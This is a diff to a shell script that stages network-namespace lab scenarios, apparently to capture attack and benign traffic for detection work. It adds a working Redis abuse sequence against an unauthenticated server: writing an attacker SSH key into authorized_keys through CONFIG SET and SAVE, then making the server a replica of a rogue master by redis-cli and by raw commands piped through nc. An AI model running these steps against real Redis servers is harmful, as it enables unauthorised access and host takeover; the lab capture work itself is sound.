@@ -4068,6 +4068,51 @@ scn_ab_http_flood() {
 # hosts that answered (svmap: SIP OPTIONS to 5060; nbtscan: NBSTAT to 137).
 scn_svmap_sweep() { inns evil timeout 60 svmap "$NET.0/24" 2>&1 | tail -3 || true; }
 scn_nbtscan_sweep() { inns evil timeout 60 nbtscan -r "$NET.0/24" 2>&1 | tail -3 || true; }
+# Session 40 (review 41 redis_abuse): redis-server without a password on
+# the NAS; the attacker writes a key file with CONFIG SET dir/dbfilename +
+# SAVE, then makes the NAS a replica of its own rogue master (redis-server
+# on .66:6380), which the NAS syncs from (PSYNC). Needs redis-server and
+# redis-tools (redis-cli, redis-benchmark).
+redis_up() { # host port dir [args]
+	local h=$1 port=$2 d=$3; shift 3; mkdir -p "$d"
+	spawn "$h" redis-server --bind "$(inns "$h" ip -4 -o addr show eth0 | awk '{print $4}' | cut -d/ -f1)" --protected-mode no \
+		--enable-protected-configs yes --port "$port" --save '' --dir "$d" --daemonize no --appendonly no "$@"
+	sleep 1
+}
+redis_down() { local h p; for h in "$@"; do for p in $(ip netns pids "$P-$h"); do grep -qa redis-server "/proc/$p/cmdline" && kill "$p"; done; done; sleep 0.5; }
+scn_redis_abuse_config_slaveof_redis_cli() {
+	local c evil=$NET.66
+	redis_up nas 6379 "$tmp/r1"; redis_up evil 6380 "$tmp/r2"
+	for c in "INFO server" "CONFIG SET dir $tmp/r1" "CONFIG SET dbfilename authorized_keys" "SET x ssh-ed25519_AAAAC3NzaC1lZDI1NTE5AAAAIBadKey_evil@kali" "SAVE" "SLAVEOF $evil 6380"; do
+		inns evil redis-cli -h "$nas" $c | head -2
+	done
+	sleep 4; inns evil redis-cli -h "$nas" SLAVEOF NO ONE
+	redis_down nas evil
+}
+# The same rogue master by inline commands (as exploit scripts send them).
+scn_redis_rogue_master_replicaof_inline_nc() {
+	redis_up nas 6379 "$tmp/r1"; redis_up evil 6380 "$tmp/r2"
+	printf 'PING\r\nREPLICAOF %s 6380\r\n' "$NET.66" | inns evil timeout 2 nc "$nas" 6379 || true
+	sleep 4; printf 'REPLICAOF NO ONE\r\n' | inns evil timeout 2 nc "$nas" 6379 || true
+	redis_down nas evil
+}
+scn_benign_redis_cli_get_set_benchmark() {
+	local c
+	redis_up nas 6379 "$tmp/r1"
+	for c in "PING" "INFO" "SET session:42 alice" "GET session:42" "INCR hits" "DBSIZE" "CONFIG GET maxmemory" "DEL session:42"; do
+		inns pc redis-cli -h "$nas" $c | head -2
+	done
+	inns pc redis-benchmark -h "$nas" -n 500 -c 5 -q -t get,set,lpush
+	redis_down nas
+}
+# A replica configured at start (pc2 as the second server): its own PSYNC.
+scn_benign_redis_replica_pair() {
+	redis_up nas 6379 "$tmp/r1"; redis_up pc2 6379 "$tmp/r3" --replicaof "$nas" 6379
+	sleep 3
+	inns pc redis-cli -h "$nas" SET k v; sleep 1; inns pc redis-cli -h "$NET.11" GET k
+	sleep 2
+	redis_down nas pc2
+}
 all=$(declare -F | awk '{print $3}' | grep '^scn_' | sed 's/^scn_//')
 for s in ${@:-$all}; do
 	record "$s" "scn_$s"
